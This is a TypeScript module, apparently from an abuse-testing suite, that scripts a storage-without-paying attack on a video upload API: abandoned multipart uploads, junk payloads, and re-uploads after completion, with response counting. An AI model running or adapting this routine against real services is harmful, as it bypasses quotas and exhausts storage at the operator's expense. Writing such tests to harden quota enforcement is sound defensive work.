// Attack: storage without paying, by uploads that are never completed, that are rejected, and that are sent again
// afterwards.

import { randomBytes } from 'node:crypto';
import { type AttackContext, nameOf, repeat } from './attack-context.ts';

const MEBIBYTE = 1024 ** 2;
/** What one upload sends. An attacker would have more; the test machine has not. */
const JUNK = randomBytes(2 * MEBIBYTE);

type OpenUpload = { upload_id: string; put_url?: string; parts?: { url: string }[]; headers: Record<string, string> };

export async function fillStorage(context: AttackContext): Promise<void> {
  await repeat(context, { lines: 2, everyMs: 250 }, async (number) => {
    const isLarge = number % 3 === 0;
    // Less than an account that never paid may store, so that some of them begin.
    const bytes = isLarge ? 1024 * MEBIBYTE : JUNK.length;
    const body = { filename: `film-${number}.mp4`, content_type: 'video/mp4', bytes };
    const response = await context.api('POST /uploads', body);
    context.count(`upload ${nameOf(response)}`);
    if (response.status !== 201) return;
    const opened = response.body as OpenUpload;
    if (isLarge) return sendHalf(context, opened);
    await sendJunk(context, opened);
  });
}

async function put(context: AttackContext, url: string, headers: Record<string, string>): Promise<void> {
  const response = await fetch(url, { method: 'PUT', headers, body: JUNK }).catch(() => undefined);
  context.count(`put ${response?.status ?? 'cut off'}`);
  await response?.arrayBuffer();
}

/** One part of many. */
async function sendHalf(context: AttackContext, { parts = [], headers }: OpenUpload): Promise<void> {
  await put(context, parts.at(-1)?.url ?? '', headers);
}

async function sendJunk(
  context: AttackContext,
  { upload_id: id, put_url: url = '', headers }: OpenUpload,
): Promise<void> {
  await put(context, url, headers);
  context.count(`complete ${nameOf(await context.api(`POST /uploads/${id}/complete`, {}))}`);
  await put(context, url, headers);
}
